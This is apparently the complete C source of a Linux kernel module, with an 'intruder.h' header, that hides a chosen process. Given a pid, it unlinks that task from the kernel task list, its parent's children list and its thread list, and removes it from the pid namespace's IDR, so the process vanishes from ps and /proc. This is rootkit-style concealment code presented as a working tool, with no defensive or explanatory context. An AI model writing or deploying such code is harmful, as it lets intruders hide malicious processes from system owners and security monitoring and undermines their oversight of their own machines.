/* Removes a process from the task list, the pid tree, its parent's children and its own thread list. */
#include "intruder.h"
#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>

static int pid;
module_param(pid, int, 0);

static int __init begin(void) {
    struct pid *number = find_vpid(pid);
    struct task_struct *task = pid_task(number, PIDTYPE_PID);
    if (!task) {
        return -ESRCH;
    }
    list_del_rcu(&task->tasks);
    list_del_init(&task->sibling);
    list_del_rcu(&task->thread_node);
    idr_remove(&task_active_pid_ns(task)->idr, pid);
    return 0;
}
module_init(begin);
